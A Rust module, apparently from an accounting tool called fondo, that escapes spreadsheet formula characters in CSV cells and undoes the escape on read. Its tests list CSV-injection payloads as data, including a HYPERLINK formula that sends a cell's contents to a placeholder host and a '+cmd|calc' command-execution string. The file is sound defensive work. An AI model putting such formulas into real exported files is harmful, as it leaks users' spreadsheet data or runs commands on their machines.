//! Formula-safe cells: the one rule by which every CSV that fondo writes for
//! people (report CSVs, every file of an audit bundle, `journal export`) is
//! safe to open in a spreadsheet, and by which every reader (journal import,
//! `verify --bundle`, `scripts/verify_bundle.py`, `scripts/verify_chain.py`)
//! gets the exact text back.
//!
//! Rule: a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return (what a spreadsheet would run as a formula), or with `'`
//! (so that the guard itself stays reversible), is written with one extra
//! leading `'`; an amount or count as fondo writes it (`-?DIGITS(.DIGITS)?`,
//! e.g. `-1234.50`, alone or followed by a commodity code, `-100.00 USD`) is
//! never guarded, so amounts stay numbers. A reader removes exactly one leading `'` when the character after
//! it is one of `= + - @ ' TAB CR`. [`unguard`] undoes [`guard`] for every
//! text, so hashes, which are always over the unguarded text, still verify.
//! Documented in docs/audit-format.md and docs/journal-csv.md.

use std::borrow::Cow;

/// The characters after which a leading `'` is the guard.
fn is_guarded_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\'')
}

/// `-?DIGITS(.DIGITS)?`: how fondo writes amounts and counts.
pub fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, fraction]
        .iter()
        .all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
}

/// An amount as fondo writes it: a plain number, alone or followed by one
/// commodity code (`-100.00 USD`, `-5 KG-RICE`), in which no formula can
/// call anything.
fn is_amount(text: &str) -> bool {
    match text.split_once(' ') {
        None => is_plain_number(text),
        Some((number, code)) => {
            is_plain_number(number) && super::money::validate_code(code).is_ok()
        }
    }
}

/// The cell as written: `text` with one leading `'` when a spreadsheet would
/// run it or when it starts with `'`; a plain number unchanged.
pub fn guard(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(c) if is_guarded_start(c) && !is_amount(text) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// The text of a cell as read: one leading `'` removed when the character
/// after it is one that [`guard`] guards.
pub fn unguard(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.chars().next().is_some_and(is_guarded_start) => rest,
        _ => cell,
    }
}

/// Unguards every cell of a record read from a CSV file fondo wrote, in
/// place, keeping its position (the common record with no guarded cell is
/// not copied).
pub fn unguard_record(record: &mut csv::StringRecord) {
    if record.iter().any(|cell| unguard(cell).len() != cell.len()) {
        let mut text: csv::StringRecord = record.iter().map(unguard).collect();
        text.set_position(record.position().cloned());
        *record = text;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_text_is_guarded_and_comes_back_exactly() {
        for (text, cell) in [
            (
                "=HYPERLINK(\"http://x\"&A1,\"y\")",
                "'=HYPERLINK(\"http://x\"&A1,\"y\")",
            ),
            ("=1+2", "'=1+2"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+cmd|calc", "'+cmd|calc"),
            ("-2+3", "'-2+3"),
            ("\tcmd", "'\tcmd"),
            ("\rcmd", "'\rcmd"),
            ("'quoted", "''quoted"),
            ("''", "'''"),
            ("'", "''"),
            ("-", "'-"),
            ("-100.00 USD", "-100.00 USD"),
            ("-5 KG-RICE", "-5 KG-RICE"),
            ("-5 kg", "'-5 kg"),
            ("-1 A(1)", "'-1 A(1)"),
            ("Ana - rent", "Ana - rent"),
            ("it's", "it's"),
            ("", ""),
            ("-1234.50", "-1234.50"),
            ("-2", "-2"),
            ("20", "20"),
        ] {
            assert_eq!(guard(text), cell, "{text:?}");
            assert_eq!(unguard(cell), text, "{cell:?}");
        }
    }

    #[test]
    fn plain_numbers_are_amounts_and_counts() {
        for (text, number) in [
            ("0", true),
            ("-7", true),
            ("1234.50", true),
            ("-0.5", true),
            ("1.", false),
            (".5", false),
            ("-", false),
            ("1e3", false),
            ("1,000", false),
            ("+1", false),
            ("", false),
        ] {
            assert_eq!(is_plain_number(text), number, "{text}");
        }
    }

    proptest::proptest! {
        #[test]
        fn unguard_undoes_guard(text in "['=+@\\t\\r\\-]{0,3}[ -~]{0,6}") {
            let cell = guard(&text);
            proptest::prop_assert_eq!(unguard(&cell), text.as_str());
        }

        #[test]
        fn no_guarded_cell_starts_a_formula(text in "\\PC{0,8}") {
            let cell = guard(&text);
            let first = cell.chars().next();
            proptest::prop_assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                    && (first != Some('-') || is_amount(&cell))
            );
        }
    }
}
